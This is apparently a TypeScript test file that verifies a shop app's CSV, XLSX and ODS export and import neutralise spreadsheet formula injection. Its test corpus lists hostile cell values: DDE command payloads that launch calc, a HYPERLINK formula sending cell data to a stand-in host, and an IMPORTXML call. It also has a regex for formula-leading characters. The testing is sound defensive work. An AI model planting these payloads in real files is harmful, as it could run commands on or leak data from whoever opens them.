import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../server/app/context.js';
import { inTenant } from '../../server/app/context.js';
import { exportShop } from '../../server/app/file/export.js';
import { type ImportRequest, importFile, lookAtImport } from '../../server/app/file/import.js';
import { readSheetFile, type SheetFile } from '../../server/app/file/read-file.js';
import { readFileTable } from '../../server/app/file/read-rows.js';
import { readWorkbook } from '../../server/app/file/workbook.js';
import { type Table, writeCsv, writeOds, writeXlsx } from '../../server/app/file/write-table.js';
import { readZip } from '../../server/app/file/zip.js';
import { recordPayment } from '../../server/app/payment.js';
import type { Cell } from '../../server/domain/sheet/cell.js';
import { createShop, createTestApp, nextKey, type TestApp } from '../support/app.js';

/** What would be alive in a spreadsheet, were it not text. */
const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '-5',
  '+55 cuidado',
  '=HYPERLINK("http://x.example/?"&A1;"clique")',
  "=cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=IMPORTXML("http://x.example","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  "''+1",
  "'",
  "D'Ávila",
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  'a;=1+1',
  'a,=1+1',
  'a"b;c',
  '_x003D_1+1',
  '#REF!',
  '=1+1<b>&amp;',
  '1/2',
  '00123',
  '1e5',
  'TRUE',
  'verdadeiro',
  'sep=;',
];

const FORMATS = ['csv', 'xlsx', 'ods'] as const;
type Format = (typeof FORMATS)[number];

async function write(format: Format, tables: Table[]): Promise<Buffer> {
  if (format === 'csv') return writeCsv(tables[0]!);
  return Buffer.from(await (format === 'xlsx' ? writeXlsx : writeOds)(tables));
}

async function read(format: Format, bytes: Buffer): Promise<SheetFile & { ok: true }> {
  const file = format === 'csv' ? await readSheetFile(bytes, 'x') : await readWorkbook(bytes);
  if (!file.ok) throw new Error(file.message);
  return file;
}

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp();
});
afterAll(() => app.close());

async function run(actor: Actor, bytes: Buffer, sheets: SheetFile) {
  const file = { name: 'contas', bytes };
  const request: ImportRequest = { file, sheets, sheetName: null, dueRule: null, similar: null, trustsFormulas: false };
  const look = await lookAtImport(app, actor, request);
  if (!look.ok) throw new Error(look.message);
  const result = await importFile(app, actor, request, look);
  if (!result.ok) throw new Error(JSON.stringify(result.errors));
  return { ...result, table: look.table };
}

describe('a table written and read back', () => {
  const table: Table = {
    name: 'Contas',
    headings: ['Nome', 'Obs', 'Valor', 'Vencimento'],
    rows: [
      ...CORPUS.map((text, i) => [`Cliente ${i}`, text, { cents: 100 + i }, { day: '2026-03-05' }]),
      ['Zé', null, { cents: -500 }, { day: '2026-02-28' }],
      ['Eva', null, { cents: 123_456_789 }, null],
    ],
  };

  it.each(FORMATS)(
    '%s: every text is the same text and none is a formula; numbers and days keep their kind',
    async (format) => {
      const { grid } = (await read(format, await write(format, [table]))).sheets[0]!;
      const cells = grid.slice(1);
      expect(cells.map((row) => row[1] ?? null)).toEqual(
        table.rows.map((row) => legal(format, row[1] as string | null)),
      );
      expect(grid.flat().filter(isFormula)).toEqual([]);
      expect(cells.map((row) => row[2])).toEqual(
        table.rows.map((row) => {
          const { cents } = row[2] as { cents: number };
          return format === 'csv' ? (cents / 100).toFixed(2).replace('.', ',') : cents / 100;
        }),
      );
      expect(cells.map((row) => row[3] ?? null)).toEqual(
        table.rows.map((row) => {
          const day = row[3] as { day: string } | null;
          if (day === null) return null;
          return format === 'csv' ? day.day.split('-').reverse().join('/') : { date: day.day };
        }),
      );
    },
  );

  it('a number below zero is no text in a CSV, whatever it begins with', () => {
    expect(writeCsv(table).toString()).toContain('"Zé";;-5,00;"28/02/2026"');
  });

  it('a CSV begins with its mark, and nothing in it begins as a formula does', () => {
    const text = writeCsv(table).toString();
    expect(text.startsWith('\uFEFF"Nome";"Obs";"Valor";"Vencimento"\r\n')).toBe(true);
    const fields = (parse(text, { delimiter: ';', bom: true }) as string[][]).flat();
    const alive = fields.filter(
      (field) => /^[\s\u200B\uFEFF\0]*[=+@＝＋－＠]/.test(field) || /^\s*-(?!5,00$)/.test(field),
    );
    expect(alive).toEqual([]);
  });

  it.each(['xlsx', 'ods'] as const)('%s: nothing in the file itself is a formula', async (format) => {
    const zip = await readZip(await write(format, [table]), () => true);
    if (!zip.ok) throw new Error(zip.message);
    const xml = [...zip.parts.values()].map((part) => part.toString()).join('\n');
    expect(xml).not.toMatch(/<f[\s>]|table:formula|t="e"/);
    expect(xml).toContain('Cliente 0');
  });
});

describe('a shop exported', () => {
  it('tells what hostile text the server holds, dead, and is understood again to the centavo', {
    timeout: 60_000,
  }, async () => {
    const actor = await createShop(app);
    const lines = CORPUS.map((text, i) => {
      const cell = `"${text.replaceAll('"', '""')}"`;
      return `${cell};${cell};${i + 1},50;${i % 3 === 0 ? 'sim' : ''};1${i % 9}/08/2026;${i % 5 === 0 ? '2 de 3' : ''}`;
    });
    const csv = Buffer.from(['Nome;Descrição;Valor;Pago;Vencimento;Parcela', ...lines].join('\n'));
    const first = await run(actor, csv, await readSheetFile(csv, 'x'));
    expect(first.created).toBeGreaterThan(30);
    const held = await inTenant(
      app,
      actor,
      ({ tx }) =>
        tx.$queryRaw<{ name: string; description: string | null }[]>`
        SELECT c.name, d.description FROM "Debt" d JOIN "Customer" c ON c.id = d."customerId" ORDER BY d.id`,
    );
    const shop = await exportShop(app, actor);
    const words = (rows: readonly (readonly (string | null | undefined)[])[]) =>
      rows.map((row) => row.map((word) => word ?? '').join('|')).sort();
    const told = words(held.map(({ name, description }) => [name, description]));
    expect(told.filter((text) => /^[=+@-]/.test(text)).length).toBeGreaterThan(8);
    expect(words(shop.debts.rows.map((row) => [row[0] as string, row[4] as string | null]))).toEqual(told);

    for (const format of FORMATS) {
      const bytes = await write(format, [shop.debts, shop.customers]);
      const file = await read(format, bytes);
      expect(file.sheets[0]!.grid.flat().filter(isFormula)).toEqual([]);
      const other = await createShop(app);
      const again = await run(other, bytes, file);
      expect(again.table.table.columns.map(({ field }) => field)).toEqual([
        'name',
        'document',
        'phone',
        'email',
        'description',
        'installment',
        'dueOn',
        'principalCents',
        'paid',
        'paidOn',
        'paidCents',
        null,
      ]);
      expect(again.questions, format).toEqual([]);
      const copy = await exportShop(app, other);
      expect(sorted(copy.debts.rows), format).toEqual(sorted(shop.debts.rows));
      expect(await run(actor, bytes, file)).toMatchObject({ created: 0, changed: 0 });
    }
  });

  it('tells part payments, and everybody, those who owe nothing too', async () => {
    const actor = await createShop(app);
    const csv = Buffer.from(
      'Nome;Telefone;Valor;Vencimento\nAna;11987654321;50,00;10/06/2026\nBia;;60,00;10/08/2026\n',
    );
    await run(actor, csv, await readSheetFile(csv, 'x'));
    const [ana] = await inTenant(
      app,
      actor,
      ({ tx }) => tx.$queryRaw<{ id: string }[]>`SELECT id FROM "Customer" WHERE name = 'Ana'`,
    );
    await recordPayment(app, actor, { idempotencyKey: nextKey(), customerId: ana!.id, amountCents: 2_000 });
    const { debts, customers } = await exportShop(app, actor);
    expect(debts.rows).toEqual([
      [
        'Ana',
        null,
        '(11) 98765-4321',
        null,
        null,
        null,
        { day: '2026-06-10' },
        { cents: 5_000 },
        'atrasada',
        null,
        { cents: 2_000 },
        { cents: 3_000 },
      ],
      [
        'Bia',
        null,
        null,
        null,
        null,
        null,
        { day: '2026-08-10' },
        { cents: 6_000 },
        'em aberto',
        null,
        null,
        { cents: 6_000 },
      ],
    ]);
    expect(customers.rows.map(([name]) => name)).toEqual(['Ana', 'Bia']);
    const bytes = await write('xlsx', [debts, customers]);
    const table = readFileTable(await read('xlsx', bytes), { sheetName: null, today: '2026-07-15', dueRule: null });
    expect(table).toMatchObject({ ok: true, sheet: { name: 'Contas' } });
  });
});

function isFormula(cell: Cell | undefined): boolean {
  return typeof cell === 'object' && cell !== null && 'formula' in cell;
}

/** NUL is in no file; in XML a return alone is a line end. */
function legal(format: Format, text: string | null): string | null {
  const whole = text?.replaceAll('\0', '') ?? null;
  return format === 'csv' ? whole : (whole?.replace(/\r\n?/g, '\n') ?? null);
}

function sorted(rows: Table['rows']): string[] {
  return rows.map((row) => JSON.stringify(row)).sort();
}
